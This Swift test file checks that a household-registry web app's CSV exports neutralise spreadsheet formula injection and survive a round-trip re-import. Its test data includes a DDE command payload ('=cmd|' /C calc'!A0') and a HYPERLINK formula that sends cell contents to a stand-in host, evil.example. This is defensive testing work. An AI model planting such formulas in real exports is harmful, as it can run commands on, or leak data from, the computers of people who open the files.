import Foundation
import SQLKit
import Testing
import Vapor
import VaporTesting
@testable import App

/// RFC 4180 cells, read as a spreadsheet would see them (no quote taken off): the test looks at what was written.
func csvCells(_ text: String) -> [[String]] {
    var rows: [[String]] = [], row: [String] = [], cell = "", quoted = false, i = text.unicodeScalars.startIndex
    let s = text.unicodeScalars
    if s.first == "\u{FEFF}" { i = s.index(after: i) }
    while i < s.endIndex {
        let c = s[i]
        if quoted {
            if c == "\"" {
                let n = s.index(after: i)
                if n < s.endIndex && s[n] == "\"" { cell.unicodeScalars.append("\""); i = n } else { quoted = false }
            } else { cell.unicodeScalars.append(c) }
        } else if c == "\"" { quoted = true }
        else if c == "," { row.append(cell); cell = "" }
        else if c == "\n" || c == "\r" {
            if c == "\r", s.index(after: i) < s.endIndex, s[s.index(after: i)] == "\n" { i = s.index(after: i) }
            row.append(cell); rows.append(row); row = []; cell = ""
        } else { cell.unicodeScalars.append(c) }
        i = s.index(after: i)
    }
    if !cell.isEmpty || !row.isEmpty { row.append(cell); rows.append(row) }
    return rows
}

/// No cell a spreadsheet would start a formula with.
func formulaCells(_ rows: [[String]]) -> [String] {
    rows.flatMap { $0 }.filter { $0.unicodeScalars.first.map { "=+-@\t\r".unicodeScalars.contains($0) } ?? false }
}

let hostileCells = ["=cmd|' /C calc'!A0", "+1", "-1", "@x", "\tx", "\rx"]

@Suite("Spreadsheet formula injection in CSV exports")
struct CSVInjectionTests {
    @Test("a cell a spreadsheet would run gets one quote before it, and the importer takes exactly that quote off")
    func cells() {
        for v in hostileCells { #expect(CSVText.neutralise(v) == "'" + v) }
        for v in hostileCells + ["-5", "=1+2", "+84 999 000 001", "@home", "'=x", "''-5", "'quoted", "plain", "Nguyễn Văn An", ""] {
            #expect(CSVText.restore(CSVText.neutralise(v)) == v, "\(v)")
        }
        #expect(CSVText.neutralise("'quoted") == "'quoted")
        #expect(CSVText.restore("'quoted") == "'quoted")
    }

    static let hostileFile = """
    household_code,village_code,group_code,address,household_phone,full_name,gender,birth_year,relation,phone,representative
    H-1,T1,T1-01,=cmd|' /C calc'!A0,+84 999 000 002,+1,nam,1970,chủ hộ,,x
    H-1,,,,,-1,nữ,1972,vợ,'+84 999 000 012,
    H-1,,,,,@x,nam,2001,con,,
    H-2,T2,,=1+2,,-5,nam,1965,chủ hộ,,
    H-3,T2,,@home,,Trần Văn Cường,nam,1966,chủ hộ,,

    """

    @Test("households export: hostile cells come out quoted, and importing the export gives back the same households and residents")
    func householdsExport() async throws {
        try await withTestApp { app in
            let t = try await Tree.make(app)
            let up = try await app.upload("/units/\(t.commune.id)/import", filename: "ho.csv", data: Data(Self.hostileFile.utf8))
            #expect(up.status == .ok, "\(up.text)")
            let before = try await app.api(.GET, "/api/v1/households?per=100").decode(Paged<HouseholdDTO>.self).items.sorted { $0.code < $1.code }
            let residentsBefore = try await app.api(.GET, "/api/v1/residents?per=100").decode(Paged<ResidentDTO>.self).items.sorted { $0.id.uuidString < $1.id.uuidString }
            #expect(before.map(\.address) == ["=cmd|' /C calc'!A0", "=1+2", "@home"])
            #expect(before[0].phone == "0999000002")
            #expect(residentsBefore.contains { $0.phone == "0999000012" })

            let export = try await app.page("/units/\(t.commune.id)/households.csv")
            #expect(export.status == .ok)
            let cells = csvCells(export.text)
            #expect(formulaCells(cells).isEmpty, "\(formulaCells(cells))")
            let flat = Set(cells.flatMap { $0 })
            for v in ["=cmd|' /C calc'!A0", "+1", "-1", "@x", "=1+2", "-5", "@home"] { #expect(flat.contains("'" + v), "\(v)") }

            // Imported back: nothing changes, every household and resident reads the same.
            let commune = try #require(await AdminUnit.find(t.commune.id, on: app.db))
            let again = try await RegistryCSV.importFile(Data(export.text.utf8), into: commune, on: app.db)
            #expect(again == ImportReport(rows: 5, householdsAdded: 0, householdsUpdated: 0, householdsUnchanged: 3, residentsAdded: 0, residentsUpdated: 0, residentsUnchanged: 5))
            let after = try await app.api(.GET, "/api/v1/households?per=100").decode(Paged<HouseholdDTO>.self).items.sorted { $0.code < $1.code }
            let residentsAfter = try await app.api(.GET, "/api/v1/residents?per=100").decode(Paged<ResidentDTO>.self).items.sorted { $0.id.uuidString < $1.id.uuidString }
            #expect(after.map(\.address) == before.map(\.address) && after.map(\.phone) == before.map(\.phone))
            #expect(residentsAfter.map(\.fullName) == residentsBefore.map(\.fullName) && residentsAfter.map(\.phone) == residentsBefore.map(\.phone))

            // A tab or carriage return first (no form lets one in; an old row or a direct write might).
            let sql = app.db as! any SQLDatabase
            try await sql.update("residents").set("full_name", to: "\tx").where("full_name", .equal, "+1").run()
            try await sql.update("residents").set("full_name", to: "\rx").where("full_name", .equal, "-1").run()
            let cells2 = csvCells(try await app.page("/units/\(t.commune.id)/households.csv").text)
            #expect(formulaCells(cells2).isEmpty, "\(formulaCells(cells2))")
            let flat2 = Set(cells2.flatMap { $0 })
            #expect(flat2.contains("'\tx") && flat2.contains("'\rx"))
        }
    }

    @Test("audit.csv: a username typed at an anonymous failed sign-in, and every other cell, comes out quoted")
    func auditExport() async throws {
        try await withTestApp { app in
            let t = try await Tree.make(app)
            _ = try await app.upload("/units/\(t.commune.id)/import", filename: "ho.csv", data: Data(Self.hostileFile.utf8))
            let page = try await app.anonymousPage("/signin")
            let cookie = try #require(page.headers.setCookie?["thonso_session"]?.string)
            let csrf = try #require(scrapeCSRF(page.text))
            let typed = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"bấm\")"
            let res = try await app.testing().sendRequest(.POST, "/signin", headers: ["Cookie": "thonso_session=\(cookie)"]) { req in
                try req.content.encode(["username": typed, "password": "sai", "_csrf": csrf], as: .urlEncodedForm)
            }
            #expect(res.status == .unauthorized)
            let failed = try await app.api(.GET, "/api/v1/audit?action=signInFailed").decode(Paged<AuditEventDTO>.self).items
            let actor = try #require(failed.first?.actor)
            #expect(actor.hasPrefix("=") && actor.lowercased().hasPrefix("=hyperlink"))

            let csv = try await app.page("/audit.csv")
            #expect(csv.status == .ok)
            let cells = csvCells(csv.text)
            #expect(formulaCells(cells).isEmpty, "\(formulaCells(cells))")
            #expect(cells.contains { $0.contains("'" + actor) })
        }
    }
}
